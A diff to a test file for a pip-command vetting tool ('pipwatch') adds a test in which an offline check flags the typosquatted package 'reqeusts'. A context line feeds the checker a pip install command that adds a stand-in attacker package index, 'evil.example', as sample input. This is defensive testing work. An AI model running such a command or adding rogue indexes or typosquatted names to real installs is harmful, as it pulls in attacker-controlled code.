@@ -51,6 +51,12 @@ describe('server: pipwatch/checkCommand', () => {
     const settings = { index: { url: fake.simpleUrl, osvUrl: fake.osvUrl, privatePackages: ['*'], timeoutMs: 2000 } };
     const { client: c } = await TestClient.start({ mode: 'pull', settings, cacheDir: tempDir() });
     try {
+      // The quick pass the client sends first: offline rules only, the index is not asked.
+      const quick = await check(c, { command: `pip install ${FIXTURES.missing} reqeusts`, offline: true });
+      assert.equal(quick.mode, 'offline');
+      assert.deepEqual(quick.packages.map((p) => [p.name, p.verdict, p.lookup]), [[FIXTURES.missing, 'ok', 'offline'], ['reqeusts', 'error', 'offline']]);
+      assert.equal(fake.requests.length, 0, 'offline: true asks no index');
+
       const r = await check(c, { command: `pip install --extra-index-url https://evil.example/simple ${FIXTURES.missing} ${FIXTURES.active}` });
       assert.equal(r.mode, 'online');
       const missing = r.packages.find((p) => p.name === FIXTURES.missing)!;
